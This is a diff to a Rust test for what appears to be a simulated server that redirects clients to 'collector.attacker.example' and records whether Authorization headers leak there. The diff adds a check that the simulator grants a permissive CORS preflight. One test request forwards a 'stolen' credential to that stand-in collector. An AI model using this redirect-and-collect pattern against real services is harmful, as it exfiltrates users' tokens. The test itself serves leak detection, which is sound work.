@@ -241,13 +241,42 @@ fn a_redirect_fault_sends_the_client_to_another_host_the_sim_serves_and_logs() {
     // (404) and logged with whether an Authorization header came along.
     get(&sim.agent(), elsewhere, Some("stolen"));
     get(&sim.agent(), elsewhere, None);
+    // It grants a browser's CORS preflight for whatever it asks, Authorization included.
+    let preflight = ureq::http::Request::builder()
+        .method("OPTIONS")
+        .uri(elsewhere)
+        .header("Origin", "chrome-extension://forcefield")
+        .header("Access-Control-Request-Method", "GET")
+        .header(
+            "Access-Control-Request-Headers",
+            "authorization,sforce-call-options",
+        )
+        .body(())
+        .unwrap();
+    let granted = sim.agent().run(preflight).unwrap();
+    assert_eq!(granted.status().as_u16(), 204);
+    let header = |name: &str| {
+        granted
+            .headers()
+            .get(name)
+            .and_then(|v| v.to_str().ok())
+            .map(str::to_owned)
+    };
+    assert_eq!(
+        header("access-control-allow-origin").as_deref(),
+        Some("chrome-extension://forcefield")
+    );
+    assert_eq!(
+        header("access-control-allow-headers").as_deref(),
+        Some("authorization,sforce-call-options")
+    );
     let log = sim.request_log();
     let at_collector: Vec<bool> = log
         .iter()
         .filter(|c| c.host == "collector.attacker.example")
         .map(|c| c.auth_sent)
         .collect();
-    assert_eq!(at_collector, [true, false]);
+    assert_eq!(at_collector, [true, false, false]);
     let redirected = log
         .iter()
         .find(|c| c.path == "/services/oauth2/userinfo")
